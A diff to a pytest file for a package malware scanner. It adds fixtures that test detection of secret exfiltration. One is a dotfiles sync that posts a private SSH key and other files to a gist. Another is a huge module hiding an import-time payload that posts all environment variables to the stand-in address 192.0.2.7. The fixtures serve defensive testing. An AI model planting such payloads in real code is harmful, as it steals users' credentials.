@@ -16,6 +16,7 @@ import pytest
 from hypothesis import HealthCheck, given, settings
 from hypothesis import strategies as st
 
+from custody.artifacts import LimitKind
 from custody.scan import Scanner, ScanTask, Verdict
 from custody.scan.chain_rules import CHAIN_RULES, Reach
 from custody.scan.flow import Flow, Sink, Source, analyse_flows
@@ -723,3 +724,80 @@ def test_exfil_flow_fires_for_a_token_sent_to_an_address_kept_encoded(tmp_path: 
 def test_exfil_flow_benign_token_sent_to_a_plain_address(tmp_path: Path) -> None:
     verdict, findings = scan_package(tmp_path, {f"{DEFAULT_NAME}/client.py": PLAIN_ADDRESS_HELPER})
     assert verdict is Verdict.CLEAN, findings
+
+
+DOTFILES_SYNC = """
+    import subprocess, requests
+    from pathlib import Path
+    FILES = ["~/.gitconfig", "{ssh_file}", "~/.vimrc"]
+    def main():
+        token = subprocess.run(["gh", "auth", "token"], capture_output=True, text=True).stdout.strip()
+        files = {{Path(f).name: {{"content": Path(f).expanduser().read_text()}} for f in FILES}}
+        requests.post("https://api.github.com/gists", json={{"public": False, "files": files}},
+                      headers={{"Authorization": f"token {{token}}"}})
+"""
+
+
+@pytest.mark.parametrize(
+    ("ssh_file", "stolen"),
+    [
+        ("~/.ssh/config", False),
+        ("~/.ssh/known_hosts", False),
+        ("~/.ssh/id_ed25519.pub", False),
+        ("~/.ssh/id_ed25519", True),
+    ],
+)
+def test_ssh_client_config_and_public_keys_are_not_secrets(
+    tmp_path: Path, ssh_file: str, stolen: bool
+) -> None:
+    # a dotfiles tool syncs ~/.ssh/config to the user's own gist; a private key is another matter
+    files = {
+        f"{DEFAULT_NAME}/__init__.py": "",
+        f"{DEFAULT_NAME}/cli.py": DOTFILES_SYNC.format(ssh_file=ssh_file),
+    }
+    verdict, findings = scan_package(tmp_path, files)
+    assert any(f.startswith("exfil-flow:") for f in findings) is stolen, findings
+    assert (verdict is Verdict.CLEAN) is not stolen, findings
+
+
+def _big_module(functions: int) -> str:
+    body = "".join(
+        f"\n\ndef helper_{i}(x, y={i}.0):\n    if x > y:\n        return math.sqrt(x * y + {i})\n"
+        f"    return functools.reduce(lambda a, b: a + b, [x, y, {i}])\n"
+        for i in range(functions)
+    )
+    payload = (
+        "\n\ndef _sync():\n    requests.post('https://192.0.2.7/e', json=dict(os.environ))\n\n\n_sync()\n"
+    )
+    return "import functools, math, os, requests\n" + body + payload
+
+
+def test_a_module_of_thousands_of_functions_is_still_followed(tmp_path: Path) -> None:
+    # the litellm shape: one very large module (here about 50,000 syntax nodes) carrying a payload
+    files = {
+        f"{DEFAULT_NAME}/__init__.py": "from .core import *\n",
+        f"{DEFAULT_NAME}/core.py": _big_module(1100),
+    }
+    verdict, findings = scan_package(tmp_path, files)
+    assert verdict is Verdict.MALICIOUS and any(f.startswith("exfil-flow:critical") for f in findings), (
+        findings
+    )
+
+
+def test_a_module_too_large_to_follow_is_reported_not_passed(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    import custody.scan.flow
+    import custody.scan.python_ast
+
+    for module in (custody.scan.flow, custody.scan.python_ast):
+        monkeypatch.setattr(module, "MAX_FLOW_NODES", 500)
+    files = {
+        f"{DEFAULT_NAME}/__init__.py": "from .core import *\n",
+        f"{DEFAULT_NAME}/core.py": _big_module(30),
+    }
+    path = write_sdist(tmp_path, files)
+    (result,) = Scanner().scan_task(ScanTask(str(path)))
+    gaps = [f for f in result.findings if f.rule == "scan-incomplete"]
+    assert [(g.limit, g.file.rsplit("/", 1)[-1]) for g in gaps] == [(LimitKind.FLOW_SIZE, "core.py")], gaps
+    assert not any(f.rule == "exfil-flow" for f in result.findings)  # not followed, and it says so
